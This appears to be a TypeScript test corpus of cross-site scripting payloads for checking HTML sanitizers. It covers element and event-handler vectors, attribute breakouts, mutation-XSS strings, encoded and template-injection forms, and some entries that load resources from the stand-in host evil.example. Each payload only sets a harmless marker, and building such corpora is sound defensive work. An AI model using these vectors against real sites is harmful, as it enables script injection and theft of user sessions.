/** What each payload would do: leave a sign in its page's globals. It has no quotation mark, space or bracket to trip over. */
export const DEED = "self.ran=1";

/** Elements that run something by themselves, or lead to where it runs. */
const ELEMENTS = [
  `<script>${DEED}</script>`,
  `<script src="data:text/javascript,${DEED}"></script>`,
  `<script type=module>${DEED}</script>`,
  `<img src=x onerror=${DEED}>`,
  `<image src=x onerror=${DEED}>`,
  `<img srcset=x onerror=${DEED}>`,
  `<svg onload=${DEED}>`,
  `<svg><script>${DEED}</script></svg>`,
  `<svg><animate onbegin=${DEED} attributeName=x dur=1s>`,
  `<svg><set onbegin=${DEED} attributeName=x to=1>`,
  `<svg><a xlink:href="javascript:${DEED}"><text y=9>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${DEED}'/></svg>#x">`,
  `<svg><foreignObject><iframe onload=${DEED}></iframe></foreignObject></svg>`,
  `<svg><image href=x onerror=${DEED}>`,
  `<svg><style>*{background:url(x)}</style><image href=x onerror=${DEED}></svg>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${DEED}">a</maction></math>`,
  `<math href="javascript:${DEED}">a</math>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${DEED}>`,
  `<iframe src="javascript:parent.${DEED}"></iframe>`,
  `<iframe srcdoc="<script>parent.${DEED}</script>"></iframe>`,
  `<iframe onload=${DEED}></iframe>`,
  `<object data="javascript:${DEED}"></object>`,
  `<object data=x onerror=${DEED}></object>`,
  `<embed src="javascript:${DEED}">`,
  `<video><source onerror=${DEED}></video>`,
  `<video src=x onerror=${DEED}></video>`,
  `<audio src=x onerror=${DEED}></audio>`,
  `<body onload=${DEED}>`,
  `<body onpageshow=${DEED}>`,
  `<frameset onload=${DEED}>`,
  `<details open ontoggle=${DEED}>a</details>`,
  `<input autofocus onfocus=${DEED}>`,
  `<select autofocus onfocus=${DEED}></select>`,
  `<textarea autofocus onfocus=${DEED}></textarea>`,
  `<button autofocus onfocus=${DEED}>a</button>`,
  `<a href="javascript:${DEED}">a</a>`,
  `<a onmouseover=${DEED} href=#>a</a>`,
  `<area href="javascript:${DEED}">`,
  `<form action="javascript:${DEED}"><button>a</button></form>`,
  `<form><button formaction="javascript:${DEED}">a</button></form>`,
  `<isindex action="javascript:${DEED}" type=submit>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${DEED}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel=stylesheet href="data:text/css,*{display:none}" onload=${DEED}>`,
  `<style onload=${DEED}></style>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<div style="background:url(https://evil.example/x)">a</div>`,
  `<div style="position:fixed;inset:0;background:red" onanimationstart=${DEED}>a</div>`,
  `<marquee onstart=${DEED}>a</marquee>`,
  `<template><script>${DEED}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${DEED}></template>`,
  `<dialog open onclose=${DEED}>a</dialog>`,
  `<x-card onclick=${DEED} tabindex=0 autofocus onfocus=${DEED}>a</x-card>`,
  `<table background="javascript:${DEED}"><td>a</table>`,
  `<keygen autofocus onfocus=${DEED}>`,
  `<portal src="javascript:${DEED}"></portal>`,
  `<div popover onbeforetoggle=${DEED} id=p>a</div><button popovertarget=p>a</button>`,
] as const;

/** What ends where a text is put, so that what follows is markup. */
const ENDS = ["", `">`, "'>", "--></title></textarea></style></script>", "]]>"] as const;

export const MARKUP: readonly string[] = ENDS.flatMap((end) => ELEMENTS.map((element) => end + element));

/** What makes an attribute of its own out of the value that it is put into. */
export const ATTRIBUTES: readonly string[] = [`"`, "'", "`", "", `\\"`, "&quot;", "&#34;", "\u00A0"].flatMap(
  (quote) => [
    `x${quote} onmouseover=${DEED} x=${quote}`,
    `x${quote}\tautofocus\nonfocus=${DEED}//`,
    `x${quote}/onerror=${DEED}/x=${quote}`,
    `x${quote} style=${quote}animation:x 1s${quote} onanimationstart=${DEED}`,
    `x${quote};${DEED};//`,
  ],
);

/** What is harmless until a browser writes and reads it again. */
export const MUTATING: readonly string[] = [
  `<noscript><p title="</noscript><img src=x onerror=${DEED}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${DEED}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${DEED}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${DEED}>`,
  `<table><td><style><!--</style><img src=x onerror=${DEED}>--></table>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${DEED}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${DEED}>">`,
  `<listing>&lt;img src=1 onerror=${DEED}&gt;</listing>`,
  `<title>&lt;/title&gt;&lt;img src=1 onerror=${DEED}&gt;</title>`,
  `<svg><title><![CDATA[</title><img src=x onerror=${DEED}>]]>`,
  `<![CDATA[><img src=x onerror=${DEED}>]]>`,
  `<?xml-stylesheet href="javascript:${DEED}"?><img src=x onerror=${DEED}>`,
  `<!--><img src=x onerror=${DEED}>-->`,
  `<!--!><img src=x onerror=${DEED}>-->`,
  `</br/x="><img src=x onerror=${DEED}>">`,
  `<a/href="<img src=x onerror=${DEED}>">`,
  `<img alt="\`><img src=x onerror=${DEED}>"/>`,
  `<p id="1\u2028<img src=x onerror=${DEED}>">`,
  `<plaintext><img src=x onerror=${DEED}>`,
  `<<script>${DEED}//<</script>`,
  `<scr<script>ipt>${DEED}</scr</script>ipt>`,
  `<ScRiPt\t>${DEED}</sCrIpT\n>`,
  `<script\u0000>${DEED}</script>`,
  `<img\fsrc=x\fonerror=${DEED}>`,
  `<img src=x onerror\u0000=${DEED}>`,
  `<img src=x:x onerror=\u0001${DEED}>`,
  `＜script＞${DEED}＜/script＞`,
  `‹img src=x onerror=${DEED}›`,
];

const inEntities = (text: string, write: (code: number) => string): string =>
  Array.from(text, (sign) => write(sign.charCodeAt(0))).join("");

const LIVE = `<img src=x onerror=${DEED}>`;

/** Markup that is written in some other way, and becomes itself where a text is decoded once too often. */
export const ENCODED: readonly string[] = [
  inEntities(LIVE, (code) => `&#${code};`),
  inEntities(LIVE, (code) => `&#x${code.toString(16)};`),
  inEntities(LIVE, (code) => `&#${String(code).padStart(7, "0")}`),
  inEntities(LIVE, (code) => `%${code.toString(16)}`),
  inEntities(LIVE, (code) => `%25${code.toString(16)}`),
  inEntities(LIVE, (code) => `\\u${code.toString(16).padStart(4, "0")}`),
  inEntities(LIVE, (code) => `\\x${code.toString(16)}`),
  inEntities(LIVE, (code) => `\\${code.toString(16)} `),
  LIVE.replace("<", "&lt;").replace(">", "&gt;"),
  LIVE.replace("<", "&LT;").replace(">", "&GT;"),
  LIVE.replace("<", "&amp;lt;"),
  `&NewLine;&Tab;<img src=x onerror=&NewLine;${DEED}>`,
  `<img src=x onerror="&#115;elf.ran&equals;1">`,
  "+ADw-script+AD4-self.ran=1+ADw-/script+AD4-",
  "+/v8-+ADw-img src+AD0-x onerror+AD0-self.ran+AD0-1+AD4-",
  "+ADwAcwBjAHIAaQBwAHQAPg-self.ran=1",
  "¼script¾self.ran=1¼/script¾",
  "\u001B$B<script>self.ran=1</script>\u001B(B",
  `PGltZyBzcmM9eCBvbmVycm9yPXNlbGYucmFuPTE+`,
];

/** What a template of some library would work out. */
export const TEMPLATES: readonly string[] = [
  `\${${DEED}}`,
  `{{${DEED}}}`,
  `{{constructor.constructor('${DEED}')()}}`,
  `{{$on.constructor('${DEED}')()}}`,
  `{%${DEED}%}`,
  `<%=${DEED}%>`,
  `<?=${DEED}?>`,
  `#{${DEED}}`,
  `[[${DEED}]]`,
  `*{${DEED}}`,
  `@(${DEED})`,
  `$(${DEED})`,
  `__proto__[ran]=1`,
  `constructor.prototype.ran=1`,
  `$&$\`$'$1$$`,
  `$1 $2 $0`,
  "%s%d%o%c",
  "__MSG_extName__",
  "$TITLE$",
  "\uE000",
];
